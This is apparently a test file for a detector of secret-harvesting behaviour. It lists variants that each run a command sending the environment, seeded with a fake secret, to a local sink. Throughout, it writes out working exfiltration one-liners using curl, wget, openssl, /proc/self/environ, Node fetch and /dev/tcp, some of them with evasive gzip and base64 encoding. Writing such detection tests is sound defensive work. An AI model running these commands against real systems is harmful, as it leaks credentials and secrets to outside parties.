import assert from "node:assert/strict";
import { gunzipSync } from "node:zlib";
import { type Sink, sink } from "../sink.ts";
import type { Variant } from "../variant.ts";

let peer: Sink;
async function prepare() {
  peer = await sink();
  return peer.close;
}

const env = { JW_SECRET: "fake-secret-0123456789" };
const happened = () => assert.match(peer.taken().toString(), /JW_SECRET.{1,3}fake-secret/);
const found = {
  ...{ signature: "JW-123", severity: "high", behaviour: "env_harvest" },
  message: /whole environment/,
} as const satisfies Partial<Variant["found"]>;

const shell = (text: (url: string) => string) => (): string[] => [
  "bash",
  "-c",
  text(`http://127.0.0.1:${peer.port}/`),
];

export const variants: Variant[] = [
  {
    name: "env is piped to curl",
    ...{ prepare, env, happened },
    command: shell((url) => `env | curl -s --data-binary @- ${url}`),
    found: { ...found, program: "/curl", message: /connection to/ },
  },
  {
    name: "the environment is an argument, as a changed uploader had it",
    ...{ prepare, env, happened },
    command: shell((url) => `curl -sm 5 -d "$(pwd)<<<<<< ENV $(env)" ${url} || true`),
    found: { ...found, program: "/curl", message: /was given/ },
  },
  {
    name: "it is packed and encoded twice in an argument",
    ...{ prepare, env },
    command: shell(
      (url) => `wget -qO- --post-data="$(env | gzip | base64 -w0 | base64 -w0)" ${url}`,
    ),
    happened: () => {
      const body = peer.taken().toString().split("\r\n\r\n")[1] ?? "";
      const packed = Buffer.from(Buffer.from(body, "base64").toString(), "base64");
      assert.match(gunzipSync(packed).toString(), /JW_SECRET=fake-secret/);
    },
    found: { ...found, program: "/wget", message: /was given/ },
  },
  {
    name: "it goes by way of a file, encrypted",
    ...{ prepare, env },
    command: shell(
      (url) =>
        "printenv >x; openssl enc -aes-256-cbc -pass pass:x -in x -out y 2>/dev/null; rm x;" +
        `curl -s -T y ${url}`,
    ),
    happened: () => assert.ok(peer.taken().includes("Salted__")),
    found: { ...found, program: "/curl", message: /connection to/ },
  },
  {
    name: "python reads it from procfs and posts it",
    ...{ prepare, env, happened },
    command: () => [
      "python3",
      "-c",
      `import urllib.request as r
r.urlopen("http://127.0.0.1:${peer.port}/", open("/proc/self/environ", "rb").read())`,
    ],
    found: { ...found, program: "/python3.11", message: /connection to/ },
  },
  {
    name: "a shell pipes its own variables",
    ...{ prepare, env, happened },
    command: shell((url) => `set | curl -s --data-binary @- ${url}`),
    found: { ...found, program: "/curl", message: /connection to/ },
  },
  {
    name: "node posts its own as JSON",
    ...{ prepare, env, happened },
    command: () => [
      "node",
      "-e",
      `fetch("http://127.0.0.1:${peer.port}/", { method: "POST", body: JSON.stringify(process.env) })`,
    ],
    found: { ...found, program: "/node", message: /connection to/ },
  },
  {
    name: "a shell reads procfs through a filter into a connection of its own",
    ...{ prepare, env, happened },
    command: shell(() => `tr '\\0' '\\n' </proc/$$/environ >/dev/tcp/127.0.0.1/${peer.port}`),
    found: { ...found, program: "/bash", message: /connection to/ },
  },
];
